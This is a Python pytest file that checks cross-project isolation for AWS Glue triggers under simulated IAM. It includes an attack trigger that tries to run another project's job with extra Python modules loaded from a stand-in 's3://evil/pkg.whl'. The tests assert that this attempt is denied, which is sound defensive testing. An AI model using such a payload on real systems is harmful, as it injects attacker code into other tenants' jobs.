"""Issue #12 item 2, from the attacker's own credentials (IAM enforced, in-process): a scientist of A may not make a
trigger that runs B's job (CreateTrigger is authorised on the trigger's ARN only), while A's own triggers, made on
the plane's checked path, still fire A's job when A's scientist starts them.
"""

from __future__ import annotations

import json

import boto3
import pytest
from botocore.exceptions import ClientError
from glueguard.adapters.registry import Registry
from glueguard.glue_triggers import TriggerRefused, create
from moto.core.authorization import enable_iam_authentication

from tests.support.provisioning import provision, request

A, B = "0a0a0a0a-1111-4222-8333-aaaaaaaaaaaa", "0b0b0b0b-1111-4222-8333-bbbbbbbbbbbb"
TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::123456789012:root"}, "Action": "sts:AssumeRole"}
        ],
    }
)


def _job(project, stem: str) -> dict:
    return {
        "Name": project.names.resource("job", stem),
        "Role": project.resources.job_role_arn,
        "Command": {"Name": "glueetl", "ScriptLocation": f"s3://{project.names.scripts_bucket}/{stem}.py"},
        "Connections": {"Connections": [project.connection_name]},
        "GlueVersion": "4.0",
        "WorkerType": "G.1X",
        "NumberOfWorkers": 2,
        "Timeout": 60,
    }


@pytest.fixture
def projects(aws):
    for pid in (A, B):
        assert provision(request(project_id=pid), execution_id=f"exec-{pid}")["status"] == "SUCCEEDED"
    a, b = (Registry().get(pid, cached=False) for pid in (A, B))
    admin, iam, sts = boto3.client("glue"), boto3.client("iam"), boto3.client("sts")
    for project in (a, b):
        admin.create_job(**_job(project, "ingest"))
    iam.create_role(RoleName="sso-scientist-a", AssumeRolePolicyDocument=TRUST)
    iam.attach_role_policy(RoleName="sso-scientist-a", PolicyArn=a.resources.scientist_policy_arn)
    credentials = sts.assume_role(RoleArn="arn:aws:iam::123456789012:role/sso-scientist-a", RoleSessionName="mallory")
    c = credentials["Credentials"]
    glue = boto3.client(
        "glue",
        aws_access_key_id=c["AccessKeyId"],
        aws_secret_access_key=c["SecretAccessKey"],
        aws_session_token=c["SessionToken"],
    )
    return a, b, glue


def _runs(job: str) -> list:
    return boto3.client("glue").get_job_runs(JobName=job)["JobRuns"]


@pytest.mark.xfail(
    strict=True,
    reason="known red after #11 replaced the in-process Glue evaluator; to be moved into the IAM sandbox (session 2 closing note)",
)
def test_a_scientist_cannot_make_a_trigger_that_runs_another_projects_job(projects):
    a, b, glue = projects
    theirs = b.names.resource("job", "ingest")
    attack = {
        "Name": a.names.resource("trigger", "innocent"),
        "Type": "ON_DEMAND",
        "Actions": [{"JobName": theirs, "Arguments": {"--additional-python-modules": "s3://evil/pkg.whl"}}],
    }
    with enable_iam_authentication():
        with pytest.raises(ClientError) as denied:
            glue.create_trigger(**attack)
        assert denied.value.response["Error"]["Code"] in ("AccessDenied", "AccessDeniedException")
        assert "glue:CreateTrigger" in denied.value.response["Error"]["Message"]
    with pytest.raises(TriggerRefused, match="not a job of the project"):  # nor on the plane's path
        create(boto3.client("glue"), attack, a)
    assert _runs(theirs) == []


@pytest.mark.xfail(
    strict=True,
    reason="known red after #11 replaced the in-process Glue evaluator; to be moved into the IAM sandbox (session 2 closing note)",
)
def test_a_trigger_made_on_the_plane_path_fires_the_projects_own_job(projects):
    a, _, glue = projects
    mine = a.names.resource("job", "ingest")
    trigger = {"Name": a.names.resource("trigger", "nightly"), "Type": "ON_DEMAND", "Actions": [{"JobName": mine}]}
    create(boto3.client("glue"), trigger, a)  # the operator, on the plane's path
    with enable_iam_authentication():
        glue.start_trigger(Name=trigger["Name"])  # A's scientist fires A's trigger
    [run] = _runs(mine)
    assert run.get("TriggerName") == trigger["Name"]
